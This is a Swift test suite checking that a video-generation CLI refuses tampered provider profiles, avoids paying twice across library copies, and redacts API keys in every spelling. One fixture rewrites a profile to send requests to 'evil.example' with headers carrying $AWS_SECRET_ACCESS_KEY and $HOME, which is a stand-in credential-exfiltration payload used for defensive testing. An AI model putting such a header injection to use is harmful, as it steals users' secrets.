import Foundation
import Model
import TestSupport
import Testing

/// Files from other people, and copies of a library, never make `send` pay twice or leak a key.
@Suite("Sending with files from other people", .timeLimit(.minutes(20)))
struct SendTrust {
  private let studio: RenderStudio

  init() throws { studio = try RenderStudio() }

  private func submissions() throws -> [JSONValue] { try studio.providers.set().submissions }

  // MARK: Profiles

  /// Puts a profile into the user's folder of profiles: a built-in one with other texts in it.
  private func plant(
    _ target: String, _ changes: [(String, String)], mode: Int = 0o600
  ) throws {
    let source = Fixtures.repository.appending(path: "Catalog/Targets/\(target).json")
    var text = try String(contentsOf: source, encoding: .utf8)
    for (old, new) in changes {
      try #require(text.contains(old), "\(old)")
      text = text.replacing(old, with: new)
    }
    try studio.set("targets/\(target).json", text)
    try FileManager.default.setAttributes(
      [.posixPermissions: mode],
      ofItemAtPath: studio.settings.appending(path: "targets/\(target).json").path())
  }

  @Test("A profile that sends keys elsewhere is refused, and the plan says where and by which file")
  func hostile() throws {
    try plant(
      "fal.kling-o3.t2v",
      [
        ("https://queue.fal.run/", "https://evil.example/"),
        (
          "\"Authorization: Key $FAL_KEY\"",
          "\"Authorization: Key $FAL_KEY\", \"X-A: $AWS_SECRET_ACCESS_KEY\", \"X-H: $HOME\""
        ),
      ])
    let bundle = try studio.export("shot", for: "fal.kling-o3.t2v", "A car.")
    let secrets = ["AWS_SECRET_ACCESS_KEY": "aws-secret-0123456789"]
    for words in [["--dry-run"], ["--yes"]] {
      let result = try studio.run(["send", bundle] + words, with: secrets)
      #expect(result.status == 1, "\(result)")
      #expect(result.output.contains("$FAL_KEY is not sent to evil.example"), "\(result)")
      #expect(result.output.contains("$AWS_SECRET_ACCESS_KEY is not a provider's key"))
      #expect(result.output.contains("$HOME is not a provider's key"))
      #expect(result.output.contains("keys.json"))
    }
    let plan = try studio.json("send", bundle, "--dry-run")
    let call = try #require(plan["bundles"]?.array?.first?["calls"]?.array?.first)
    #expect(call["hosts"]?.array?.contains("evil.example") == true, "\(call)")
    #expect(call["profile"]?["replacesBuiltIn"]?.boolean == true)
    #expect(call["profile"]?["file"]?.string?.hasSuffix("targets/fal.kling-o3.t2v.json") == true)
    #expect(try !studio.providers.set().requests.contains { $0.contains("evil.example") })
    // The printed curl commands omit these headers as well.
    let request = try studio.run(["bundle", "request", bundle])
    #expect(request.output.contains("left out: $FAL_KEY is not sent to evil.example"), "\(request)")
    #expect(request.output.contains("left out: $HOME is not a provider's key"))
    #expect(!request.output.contains("-H \"X-H") && !request.output.contains("X-A: "))
    #expect(try submissions().isEmpty)
  }

  @Test("A user's profile that sends to the provider itself is used, and named in the plan")
  func own() throws {
    let bundle = try studio.export("shot", for: "fal.kling-o3.t2v", "A car.")
    let plain = try studio.output("send", bundle, "--dry-run")
    #expect(plain.contains("sends to queue.fal.run"), "\(plain)")
    #expect(!plain.contains("in the place of"))
    try plant("fal.kling-o3.t2v", [])
    let plan = try studio.output("send", bundle, "--dry-run")
    #expect(
      plan.contains("targets/fal.kling-o3.t2v.json says, in the place of the built-in"), "\(plan)")
    #expect(RenderStudio.end(try studio.json("send", bundle, "--yes")) == "take")
  }

  @Test("A host that the user allows in keys.json gets the key")
  func allowed() throws {
    try plant("fal.kling-o3.t2v", [("https://queue.fal.run/", "https://v3.fal.media/")])
    let bundle = try studio.export("shot", for: "fal.kling-o3.t2v", "A car.")
    let refused = try studio.run(["send", bundle, "--yes"])
    #expect(refused.status == 1 && refused.output.contains("$FAL_KEY is not sent to v3.fal.media"))
    #expect(try studio.providers.set().leaks.isEmpty)
    try studio.set(
      "keys.json",
      #"{"castbook": "keys/1", "keys": [], "hosts": {"FAL_KEY": ["v3.fal.media"]}}"#)
    _ = try studio.run(["send", bundle, "--yes"])
    // The fake of fal's file storage records the key that it gets.
    #expect(try !studio.providers.set().leaks.isEmpty)
  }

  @Test(
    "Settings that others may write are refused",
    arguments: ["keys.json", "limits.json", "targets/fal.kling-o3.t2v.json"])
  func writable(name: String) throws {
    let bundle = try studio.export("shot", for: "fal.kling-o3.t2v", "A car.")
    switch name {
    case "keys.json": try studio.set(name, #"{"castbook": "keys/1", "keys": []}"#)
    case "limits.json": try studio.set(name, #"{"castbook": "limits/1", "daily": ["100 USD"]}"#)
    default: try plant("fal.kling-o3.t2v", [])
    }
    let path = studio.settings.appending(path: name).path()
    try FileManager.default.setAttributes([.posixPermissions: 0o646], ofItemAtPath: path)
    let result = try studio.run(["send", bundle, "--yes"])
    #expect((result.output + result.errors).contains("other users may change it"), "\(result)")
    if name.hasPrefix("targets") {
      // The built-in profile is used instead.
      #expect(result.status == 0, "\(result)")
    } else {
      #expect(result.status != 0 && result.errors.contains(name), "\(result)")
      #expect(try submissions().isEmpty)
      try FileManager.default.setAttributes([.posixPermissions: 0o644], ofItemAtPath: path)
      #expect(try studio.run(["send", bundle, "--yes"]).status == 0)
    }
  }

  // MARK: Copies

  /// Copies the library, and returns the variables with which commands use the copy.
  private func copy(_ name: String) throws -> [String: String] {
    let path = studio.scratch.path(name).text
    try FileManager.default.copyItem(atPath: studio.scratch.path("library").text, toPath: path)
    return ["CASTBOOK_LIBRARY": path]
  }

  @Test(
    "A copy of the library, or a backup of it, gets the clip of the first job and pays nothing",
    arguments: ["fal.kling-o3.t2v", "kling.v3.t2v", "fal.kling-o3.r2v", "kling.v3-omni"])
  func copies(target: String) throws {
    let text = target.hasSuffix("t2v") ? "A car." : "@mira waves."
    let bundle = try studio.export("shot", for: target, text)
    let copy = try copy("copy")
    let first = try studio.json("send", bundle, "--yes")
    #expect(RenderStudio.end(first) == "take", "\(first)")
    let count = try submissions().count
    let plan = try studio.run(["send", bundle, "--dry-run"], with: copy)
    #expect(plan.status == 0 && !plan.output.contains("USD"), "\(plan)")
    let second = try studio.run(["send", bundle, "--yes", "--json"], with: copy)
    #expect(second.status == 0, "\(second)")
    let json = try JSONParser.parse(Array(second.output.utf8))
    #expect(
      json["bundles"]?.array?.first?["result"]?["sha256"]
        == first["bundles"]?.array?.first?["result"]?["sha256"], "\(json)")
    #expect(try submissions().count == count)
    // A deliberate repetition is a new job, in each library.
    #expect(try studio.run(["send", bundle, "--yes", "--again"], with: copy).status == 0)
    #expect(
      try studio.json("send", bundle, "--yes")["bundles"]?.array?.first?["state"]?.string == "done")
    #expect(try submissions().count == count + 1)
  }

  @Test(
    "Without a journal, Kling itself refuses a second submission and returns the first job")
  func otherMachine() throws {
    let bundle = try studio.export("shot", for: "kling.v3.t2v", "A car.")
    let copy = try copy("copy")
    #expect(RenderStudio.end(try studio.json("send", bundle, "--yes", "-o", "here")) == "take")
    // The other machine has neither the journal nor the take.
    let state = ["XDG_STATE_HOME": studio.scratch.path("elsewhere").text]
    let second = try studio.run(
      ["send", bundle, "--yes", "--json", "-o", "there"], with: copy.merging(state) { $1 })
    let json = try JSONParser.parse(Array(second.output.utf8))
    #expect(RenderStudio.end(json) == "take", "\(second)")
    #expect(try submissions().count == 1)
  }

  @Test("A take beside the bundle that no job made is asked about, and stops --yes")
  func takes() throws {
    let bundle = try studio.export("shot", for: "fal.kling-o3.t2v", "A car.")
    let copy = try copy("copy")
    #expect(RenderStudio.end(try studio.json("send", bundle, "--yes")) == "take")
    let other = copy.merging(["XDG_STATE_HOME": studio.scratch.path("elsewhere").text]) { $1 }
    let plan = try studio.run(["send", bundle, "--dry-run"], with: other)
    #expect(plan.status == 0 && plan.output.contains("shot-take-1.mp4 is there already"), "\(plan)")
    let stopped = try studio.run(["send", bundle, "--yes"], with: other)
    #expect(stopped.status == 1 && stopped.output.contains("it may be paid for"), "\(stopped)")
    #expect(stopped.output.contains("--again"))
    #expect(try submissions().count == 1)
    let json = try studio.run(["send", bundle, "--dry-run", "--json"], with: other)
    let planned = try JSONParser.parse(Array(json.output.utf8))["bundles"]?.array?.first
    #expect(planned?["takes"]?.array == ["shot-take-1.mp4"], "\(json)")
    let desk = try SchemaDesk("send")
    try desk.scratch.write(Data(json.output.utf8), to: "plan.json")
    try desk.accepts(["plan.json"])
    #expect(try studio.run(["send", bundle, "--yes", "--again"], with: other).status == 0)
    #expect(try submissions().count == 2)
    // A take that the library recorded needs no question.
    #expect(try studio.run(["send", bundle, "--yes", "--again"]).status == 0)
  }

  @Test("A journal that can't be read stops anything that may be charged, and is named")
  func damaged() throws {
    let bundle = try studio.export("shot", for: "fal.kling-o3.t2v", "A car.")
    #expect(RenderStudio.end(try studio.json("send", bundle, "--yes")) == "take")
    let folder = studio.scratch.url.appending(path: ".local/state/castbook/submissions")
    let names = try FileManager.default.contentsOfDirectory(atPath: folder.path())
    #expect(names.count == 1, "\(names)")
    let file = folder.appending(path: try #require(names.first))
    let desk = try SchemaDesk("submissions")
    try desk.scratch.write(try Data(contentsOf: file), to: "submissions.json")
    try desk.accepts(["submissions.json"])
    try Data("{}".utf8).write(to: file)
    let result = try studio.run(["send", bundle, "--yes", "--again"])
    #expect(result.status == 3 && result.errors.contains(names[0]), "\(result)")
    #expect(result.errors.contains("delete it"))
    #expect(try submissions().count == 1)
  }

  // MARK: Waiting

  /// Starts a `send` whose provider's answer trickles in, and waits until the provider was called.
  private func stuck(_ bundle: String, at step: String = "submit") throws -> Process {
    try studio.providers.set([FakeProviders.Fault(step, "trickling", times: 9)])
    let process = try studio.start(["send", bundle, "--yes"])
    for _ in 0..<400 {
      if try !submissions().isEmpty { break }
      Thread.sleep(forTimeInterval: 0.05)
    }
    #expect(try !submissions().isEmpty)
    return process
  }

  @Test(
    "While a provider is slow the library is free; the same job is refused with the right reason")
  func free() throws {
    let bundle = try studio.export("shot", for: "fal.kling-o3.t2v", "A car.")
    let other = try studio.export("other", for: "fal.kling-o3.t2v", "A bus.")
    let process = try stuck(bundle)
    defer {
      process.terminate()
      process.waitUntilExit()
    }
    let begin = Date()
    try studio.output("edit", "@mira", "--notes", "Changed meanwhile.")
    #expect(try studio.output("doctor").isEmpty == false)
    try studio.providers.set([])
    #expect(RenderStudio.end(try studio.json("send", other, "--yes")) == "take")
    let job = try #require(
      try studio.json("jobs", "--open")["jobs"]?.array?.first?["job"]?["id"]?.string)
    let cancelled = try studio.run(["cancel", job, "--yes"])
    #expect(cancelled.status != 0, "\(cancelled)")
    #expect(
      (cancelled.output + cancelled.errors).contains("another command is submitting this job"),
      "\(cancelled)")
    #expect(Date().timeIntervalSince(begin) < 60)
    #expect(process.isRunning)
  }

  @Test(
    "The first Ctrl-C waits for the answer, the second one ends; what may be charged stays on record"
  )
  func interrupted() throws {
    let bundle = try studio.export("shot", for: "fal.kling-o3.t2v", "A car.")
    let process = try stuck(bundle)
    kill(process.processIdentifier, SIGINT)
    Thread.sleep(forTimeInterval: 1)
    if process.isRunning { kill(process.processIdentifier, SIGINT) }
    let begin = Date()
    while process.isRunning, Date().timeIntervalSince(begin) < 10 {
      Thread.sleep(forTimeInterval: 0.05)
    }
    #expect(!process.isRunning)
    if process.isRunning { kill(process.processIdentifier, SIGKILL) }
    process.waitUntilExit()
    try studio.providers.set([])
    #expect(RenderStudio.end(try studio.json("send", bundle, "--yes")) == "undecided")
    #expect(try submissions().count == 1)
    // The order is no longer locked.
    let job = try #require(
      try studio.json("jobs", "--open")["jobs"]?.array?.first?["job"]?["id"]?.string)
    let task = try #require(try submissions().first?["id"]?.string)
    try studio.output("fetch", job, "--task", task, "-o", "out")
    #expect(try studio.takes() == ["shot-take-1.mp4"])
  }

  // MARK: Keys that are repeated

  @Test("A key in another spelling, or in a header, is shown and kept nowhere")
  func spelled() throws {
    let key = try #require(FakeProviders.keys["FAL_KEY"])
    let bundle = try studio.export("shot", for: "fal.kling-o3.t2v", "A car.")
    let spellings = [
      key.utf8.map { "\\u00\(String($0, radix: 16))" }.joined(),
      key.utf8.map { "%\(String($0, radix: 16))" }.joined(), Data(key.utf8).base64EncodedString(),
      String(key.split(separator: ":")[1]),
    ]
    for spelling in spellings {
      try studio.providers.set([
        FakeProviders.Fault(
          "submit", "refused",
          more: [
            "status": 401, "body": .string("wrong key \(spelling)"),
            "type": .string("text/plain; key=\(spelling)"),
          ])
      ])
      let result = try studio.run(["send", bundle, "--yes", "--record", "calls"])
      #expect(result.status == 1 && result.output.contains("$FAL_KEY"), "\(result)")
      #expect(!result.output.contains(spelling) && !result.errors.contains(spelling))
    }
    for spelling in spellings + [key] { #expect(try Self.files(in: studio, with: spelling) == []) }
  }

  /// The files of the studio that contain a text.
  private static func files(in studio: RenderStudio, with text: String) throws -> [String] {
    let paths = FileManager.default.enumerator(atPath: studio.scratch.url.path())
    return try (paths?.compactMap { $0 as? String } ?? []).filter { path in
      let url = studio.scratch.url.appending(path: path)
      guard try url.resourceValues(forKeys: [.isRegularFileKey]).isRegularFile == true else {
        return false
      }
      return try Data(contentsOf: url).contains(bytes: text.utf8)
    }
  }
}
